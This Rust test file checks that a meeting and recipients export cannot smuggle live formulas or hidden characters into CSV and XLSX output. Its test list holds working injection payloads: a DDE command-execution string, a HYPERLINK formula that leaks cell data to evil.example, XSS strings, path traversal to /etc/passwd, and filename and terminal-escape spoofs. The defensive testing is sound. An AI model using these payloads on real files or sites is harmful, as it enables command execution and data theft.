//! Cells that were written to harm, in every field: none reaches a product as more than text.

use std::fs;

use super::guard::{is_phone, is_trigger};
use super::tests::{
    LINK, cells_of, excel_of, finished, is_protected, output, place, read_back, recipients_of, workbook_of,
};
use super::{RecipientsForm, recipients};
use crate::ledger::COLUMNS;
use crate::publish::text::{clean, is_unseen};
use crate::publish::words::Texts;

const HOSTILE: [&str; 26] = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Join\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u{a0}=1+1",
    "＝1+1",
    "\u{200b}=1+1",
    "\u{202e}=1+1",
    "\"=1+1",
    "=\"0042\"&A1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\con",
    "two\r\nlines\rthree",
    "a\u{202e}gpj.exe\u{2066}\u{200f}",
    "a\u{1}b\u{1b}[2Jc\u{7f}\u{9b}",
    "javascript:alert(1)",
    "https://evil.example/\"onclick=\"x",
];
/// Fields that are read as what they must be, or else are no line of this program.
const TYPED: [&str; 4] = ["status", "attempts", "record", "httpStatus"];

/// An output with a line for each field that has this text in it, and one with a column of this name.
fn outputs(hostile: &str) -> [Vec<u8>; 2] {
    let name = format!("\"{}\" <ada@contoso.example>", hostile.replace('"', "\"\""));
    let mut lines = Vec::new();
    for field in ["subject", "externalId", "organizerUserId", "attendees", "note", "startDateTime", "timeZone"] {
        lines.push(vec![(field, if field == "attendees" { &name } else { hostile })]);
    }
    for field in COLUMNS.into_iter().filter(|field| !TYPED.contains(field)) {
        let status = if field == "drift" { "differs" } else { "created" };
        lines.push(vec![("status", status), (field, hostile)]);
    }
    [output(&lines), output(&[vec![(hostile, "x")]])]
}

fn unseen(cell: &str) -> bool {
    cell.contains(|c: char| is_unseen(c) || c.is_control() && c != '\n')
}

/// Fails when a program could take the cell for more than it says.
fn check(cell: &str, is_bare: bool, of_what: &str) {
    assert!(!unseen(cell), "{of_what}: {cell:?}");
    let is_known = is_protected(cell) || is_bare && is_phone(cell);
    assert!(!is_trigger(cell) || is_known || cell.trim().is_empty(), "{of_what}: {cell:?}");
}

#[test]
fn nothing_malicious_reaches_a_file_of_text_as_more_than_text() {
    for hostile in HOSTILE {
        for output in outputs(hostile) {
            let of_what = format!("{hostile:?}");
            for delimiter in [b';', b','] {
                for record in excel_of(&output, delimiter).0 {
                    record.iter().for_each(|cell| check(cell, false, &of_what));
                }
            }
            for (excel, is_bare) in [(None, true), (Some(b';'), false)] {
                let (records, _) = recipients_of(&output, excel, false);
                assert!(records.len() > 1, "{of_what}");
                for record in records {
                    assert!(!record[0].is_empty() && !record[1].is_empty(), "{of_what}");
                    record.iter().for_each(|cell| check(cell, is_bare, &of_what));
                }
            }
        }
    }
}

#[test]
fn nothing_malicious_reaches_a_workbook_as_more_than_text() {
    for hostile in HOSTILE {
        let wanted = clean(hostile);
        let doubled = wanted.replace('"', "\"\"");
        for (output, times) in outputs(hostile).iter().zip([COLUMNS.len(), 1]) {
            let (book, _) = workbook_of(output);
            // That there is no formula is seen there.
            let rows = cells_of(&book, "Meetings");
            let cells: Vec<&String> = rows.iter().flatten().collect();
            assert!(!cells.iter().any(|cell| unseen(cell)), "{hostile:?}");
            let there = cells.iter().filter(|cell| cell.contains(&*wanted) || cell.contains(&doubled));
            assert!(there.count() >= times, "{hostile:?}: {rows:?}");
        }
    }
}

#[test]
fn the_recipients_are_the_same_in_a_workbook() {
    let given = vec![("attendees", "=Ada <ada@contoso.example>"), ("tollNumber", "+12065550100"), ("room", "0042")];
    let output = output(&[given]);
    let (_directory, path) = place("out.XLSX");
    let texts = |_: &crate::publish::Entry, _: &crate::input::Zones| Texts::default();
    recipients(&finished(output.clone()), &path, RecipientsForm::default(), false, texts).expect("it is written");
    let rows = cells_of(&fs::read(&path).expect("a file"), "Recipients");
    assert_eq!(rows[1][..3], ["=Ada", "ada@contoso.example", "attendee"]);
    assert!(["+12065550100", "0042", LINK].iter().all(|text| rows[1].iter().any(|cell| cell == text)), "{rows:?}");
    let text = recipients_of(&output, None, false).0;
    assert_eq!(text[0].iter().collect::<Vec<_>>(), rows[0]);
    assert!(std::panic::catch_unwind(|| read_back(b"x", b',')).is_err(), "a file without a mark is no such file");
}
